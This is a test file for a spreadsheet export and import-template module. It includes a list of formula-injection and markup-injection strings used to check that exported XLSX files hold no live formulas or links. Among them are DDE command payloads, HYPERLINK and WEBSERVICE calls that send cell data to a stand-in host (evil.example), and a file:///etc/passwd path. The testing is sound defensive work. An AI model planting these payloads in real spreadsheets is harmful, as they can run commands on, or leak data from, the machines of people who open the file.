import { execFile } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { readXlsx } from 'hucre/xlsx'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { readEntryIn, listZipEntriesIn } from '#packages/archive'
import { checkSheetFile, readSheet, streamSheet, writeTemplate, type ExportCell, type RawCell } from './index.ts'

let folder: string
beforeAll(async () => void (folder = await mkdtemp(join(tmpdir(), 'writing-'))))
afterAll(() => rm(folder, { recursive: true }))

async function whole(pieces: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const all: Uint8Array[] = []
  for await (const piece of pieces) all.push(piece)
  return Buffer.concat(all)
}
const partsOf = (bytes: Uint8Array) =>
  new Map(listZipEntriesIn(bytes).map((entry) => [entry.name, readEntryIn(bytes, entry, 50_000_000)]))

async function readBack(bytes: Uint8Array, known: string[] = []) {
  const path = join(folder, 'back.xlsx')
  await writeFile(path, bytes)
  expect(checkSheetFile(bytes, 'back.xlsx')).toBe('xlsx')
  const rows: RawCell[][] = []
  let head: unknown
  for await (const piece of readSheet(path, { suffix: 'xlsx', rowsAtMost: 100_000, known })) {
    if (piece.kind === 'head') head = piece
    if (piece.kind === 'rows') rows.push(...piece.rows.map(({ cells }) => cells))
  }
  return { head, rows }
}

/** Opens and saves the file with LibreOffice Calc. */
async function throughCalc(bytes: Uint8Array, suffix = 'xlsx'): Promise<Buffer> {
  const path = join(folder, 'calc.xlsx')
  await writeFile(path, bytes)
  const profile = `-env:UserInstallation=file://${folder}/profile`
  const filter = suffix === 'xlsx' ? 'xlsx:Calc MS Excel 2007 XML' : suffix
  await promisify(execFile)('soffice', [
    '--headless',
    profile,
    '--convert-to',
    filter,
    '--outdir',
    `${folder}/calc`,
    path,
  ])
  return readFile(join(folder, 'calc', `calc.${suffix}`))
}

const nasty = [
  '=1+1',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '=WEBSERVICE("http://evil.example")',
  '+1',
  '+86 13800000000',
  '-1',
  "-1+cmd|'/c calc'!A0",
  '@SUM(1+1)',
  '@import',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '=\t1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1"',
  "'=1+1",
  ';=1+1',
  ',=1+1',
  '|calc',
  '%0A=1+1',
  '{=1+1}',
  '=DDE("cmd","/c calc","x")',
  '=IMPORTXML("http://evil.example","//a")',
  '=INDIRECT("A1")',
  '=RTD("x",,"y")',
  '<f>1+1</f>',
  '</t></is></c><c><f>1+1</f></c>',
  '<![CDATA[=1+1]]>',
  ']]>',
  '&amp;',
  '&lt;f&gt;',
  '&#61;1+1',
  '<!--',
  '<?php ?>',
  '<!DOCTYPE x [<!ENTITY a "b">]>',
  '&a;',
  '_x000D_',
  '_x0041_',
  '__x0041__',
  '_x005F_x0041_',
  'x_x0041',
  '\u0000',
  '\u0001',
  '\u001b[31m',
  '\u200b',
  '\u202e=1+1',
  '\ufeff=1+1',
  '\uffff',
  '   ends and begins   ',
  'a\r\nb',
  'a\rb',
  'a\tb',
  '330106199001011232',
  '0012',
  '1e5',
  '2010-09-01',
  'TRUE',
  '#N/A',
  '13800000000',
  '𠮷田',
  '👨‍👩‍👧',
  'javascript:alert(1)',
  'file:///etc/passwd',
  '\\\\evil\\share',
]

describe('an exported sheet', () => {
  const columns = [{ title: '姓名' }, { title: '内容', width: 30 }, { title: '数', kind: 'number' as const }]

  it('contains no formula, whatever its texts begin with, and keeps every text', async () => {
    expect(nasty.length).toBeGreaterThanOrEqual(60)
    const rows = nasty.map((text, at): ExportCell[] => [`张${at}`, text, at])
    const facts = nasty.map((text) => [text, text] as const)
    const bytes = await whole(streamSheet({ sheetName: '=1+1', columns, rows, facts, title: '=1', creator: '=cmd' }))
    const parts = partsOf(bytes)
    expect([...parts.keys()].filter((name) => /externalLink|connections|vba|hyperlink/i.test(name))).toEqual([])
    for (const text of parts.values()) {
      expect(text).not.toMatch(/<(\w+:)?(f|formula\d?|definedName|ddeLink|externalReference|hyperlink)[\s>/]/i)
      expect(text).not.toMatch(/TargetMode|<!DOCTYPE|<!ENTITY/)
    }
    const { rows: came } = await readBack(bytes)
    expect(came.map((cells) => cells[1])).toEqual(nasty)
    expect(came.map((cells) => cells[2])).toEqual(nasty.map((_, at) => at))
  })

  it('is read correctly by another program', async () => {
    const rows: ExportCell[][] = [
      ['张三', '=1+1', 12.5],
      ['李四', null, null],
      ['', '0012', Number.NaN],
    ]
    const facts = [
      ['导出人', '李四'],
      ['范围', '实验小学，在岗'],
    ] as const
    const bytes = await whole(streamSheet({ sheetName: '教职工[1]/名单', columns, rows, facts, creator: 'abc-123' }))
    const { sheets, properties } = await readXlsx(bytes)
    expect(sheets.map(({ name }) => name)).toEqual(['教职工 1  名单', '导出信息'])
    expect(sheets[0]!.rows).toEqual([
      ['姓名', '内容', '数'],
      ['张三', '=1+1', 12.5],
      ['李四', null, null],
      [null, '0012', null],
    ])
    expect(sheets[1]!.rows).toEqual(facts)
    expect(properties?.creator).toBe('abc-123')
  })

  it('requests rows only as needed and closes their source when reading stops', async () => {
    let [requested, isOver] = [0, false]
    const rows = (function* () {
      try {
        for (; requested < 200_000; requested++) yield [`张${requested}`, `${Math.random()}${Math.random()}`, requested]
      } finally {
        isOver = true
      }
    })()
    for await (const piece of streamSheet({ sheetName: '名单', columns, rows })) {
      void piece
      if (requested > 1000) break
    }
    expect(requested).toBeLessThan(100_000)
    await expect.poll(() => isOver).toBe(true)
  })

  it('fails with the error of the row source', async () => {
    const rows = (function* () {
      yield ['张三', 'x', 1]
      throw new Error('the database is gone')
    })()
    await expect(whole(streamSheet({ sheetName: '名单', columns, rows }))).rejects.toThrow('the database is gone')
  })

  it('opened and saved in Calc gives the same rows', async () => {
    const harmless = nasty.filter((text) => !/[\p{Cc}\uffff]|_x/u.test(text))
    const bytes = await whole(
      streamSheet({
        sheetName: '名单',
        columns,
        rows: harmless.map((text, at): ExportCell[] => [`张${at}`, text, at]),
      }),
    )
    const saved = await throughCalc(bytes)
    for (const text of partsOf(saved).values()) expect(text).not.toMatch(/<f[\s>]/)
    expect((await readBack(saved)).rows).toEqual((await readBack(bytes)).rows)
  })
})

describe('an import template', () => {
  const departments = Array.from({ length: 40 }, (_, at) => ({ value: `${at}`, title: `教学部门第${at}组` }))
  const target = {
    key: 'staff',
    title: '教职工',
    version: 3,
    rowsAtMost: 5000,
    matchHint: '匹配规则：身份证号 → 工号',
    columns: [
      { key: 'name', title: '姓名', kind: 'text' as const, isRequired: true, example: '张三' },
      { key: 'idCard', title: '身份证号', kind: 'id-card' as const, hint: '18位' },
      {
        key: 'sex',
        title: '性别',
        kind: 'choice' as const,
        choices: ['男', '女'].map((title) => ({ value: title, title })),
      },
      { key: 'department', title: '部门', kind: 'lookup' as const },
      { key: 'bornOn', title: '出生日期', kind: 'date' as const },
      { key: 'hours', title: '课时', kind: 'number' as const },
    ],
  }
  const make = () => writeTemplate({ target, orgName: '实验小学', choices: { department: departments } })

  it('has only headings and the mark of its template', async () => {
    const { head, rows } = await readBack(await make(), ['姓名', '身份证号'])
    expect(head).toMatchObject({
      sheetName: '教职工',
      headRow: 1,
      template: { target: 'staff', version: 3 },
      headings: ['姓名*', '身份证号', '性别', '部门', '出生日期', '课时'],
    })
    expect(rows).toEqual([])
  })

  it('explains each column on a separate sheet', async () => {
    const { sheets } = await readXlsx(await make())
    expect(sheets.map(({ name, hidden }) => [name, hidden ?? false])).toEqual([
      ['教职工', false],
      ['说明', false],
      ['_choices', true],
      ['_template', true],
    ])
    const hintRows = sheets[1]!.rows
      .flat()
      .filter((cell) => typeof cell === 'string')
      .join('\n')
    for (const word of [
      '教职工导入说明（实验小学）',
      '匹配规则：身份证号',
      '留空表示不修改',
      '18位',
      '张三',
      '必填',
      '等40项',
    ])
      expect(hintRows).toContain(word)
  })

  it('offers lists, short ones inline and long ones on a hidden sheet, and keeps long numbers as text', async () => {
    const parts = partsOf(await make())
    const sheet = parts.get('xl/worksheets/sheet1.xml')!
    expect(sheet).toMatch(/showErrorMessage="1"[^>]*sqref="C2:C5001"><formula1>&quot;男,女&quot;</)
    expect(sheet).toMatch(
      /<dataValidation type="list" allowBlank="1" sqref="D2:D5001"><formula1>'_choices'!\$A\$1:\$A\$40</,
    )
    expect(parts.get('xl/worksheets/sheet3.xml')).toContain('教学部门第39组')
  })

  it('keeps its lists and formats in Calc', async () => {
    const saved = await throughCalc(await make())
    const { head } = await readBack(saved, ['姓名', '身份证号'])
    expect(head).toMatchObject({ sheetName: '教职工', template: { target: 'staff', version: 3 } })
    const lists = partsOf(saved)
      .get('xl/worksheets/sheet1.xml')!
      .match(/<dataValidation [^>]*type="list".*?<\/dataValidation>/g)!
    expect(lists.join('\n')).toContain('男,女')
    expect(lists.join('\n')).toMatch(/_choices.*\$A\$40/)
  })
})
